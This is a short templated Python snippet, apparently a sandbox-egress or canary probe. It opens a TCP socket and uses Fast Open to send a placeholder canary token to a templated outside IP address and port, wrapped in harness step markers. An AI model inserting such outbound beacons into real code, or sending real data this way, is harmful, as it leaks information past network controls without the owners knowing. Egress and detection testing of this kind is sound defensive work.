at_step()
import socket  # step
caller = socket.socket(socket.AF_INET, socket.SOCK_STREAM)  # step
caller.setsockopt(socket.IPPROTO_TCP, socket.TCP_USER_TIMEOUT, 1000)
try:
    caller.sendto(b"{{canary.token}}\n", socket.MSG_FASTOPEN, ("{{canary.ipv4}}", {{canary.port}}))  # step
finally:
    tried()
past_step()
